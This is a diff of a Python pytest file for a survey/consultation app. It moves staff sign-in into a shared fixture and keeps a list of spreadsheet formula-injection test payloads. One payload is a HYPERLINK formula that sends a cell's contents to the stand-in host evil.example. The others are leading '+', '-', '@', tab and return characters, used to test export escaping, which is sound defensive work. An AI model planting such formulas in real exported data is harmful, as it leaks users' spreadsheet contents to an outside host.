@@ -12,14 +12,11 @@ from datetime import datetime, timedelta
 
 import pytest
 
-from consult.auth.services import create_staff, find_staff
 from consult.build.questions import add_question, set_condition
 from consult.build.services import create_consultation
 from consult.extensions import db
 from consult.models import Answer, Response
-from tests.helpers import Resident
 
-PASSWORD = "a long enough password"
 # What a spreadsheet would run as a formula, in answers, question texts and option labels.
 HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&A1,"Click for details")'
 PAYLOADS = [HYPERLINK, "+1", "-2", "@SUM(A1:A9)", "\tTab first", "\rReturn first"]
@@ -114,19 +111,6 @@ def add_response(survey: Survey, answers: dict, *, submitted_at: datetime | None
     return response
 
 
-def sign_in(app, role: str, htmx: bool = False, email: str | None = None) -> Resident:
-    """A test-client browser signed in as a new (or existing) staff member with ``role``."""
-    email = email or f"{role}@example.org"
-    with app.app_context():
-        if find_staff(email) is None:
-            create_staff(email, PASSWORD, role)
-            db.session.commit()
-    person = Resident(app.test_client(), htmx=htmx)
-    page = person.submit(person.get("/staff/sign-in"), {"email": email, "password": PASSWORD})
-    assert page.status == 200 and page.path == "/staff/", page.text()[:300]
-    return person
-
-
 @pytest.fixture
-def analyst(app):
-    return sign_in(app, "analyst")
+def analyst(signed_in):
+    return signed_in("analyst")
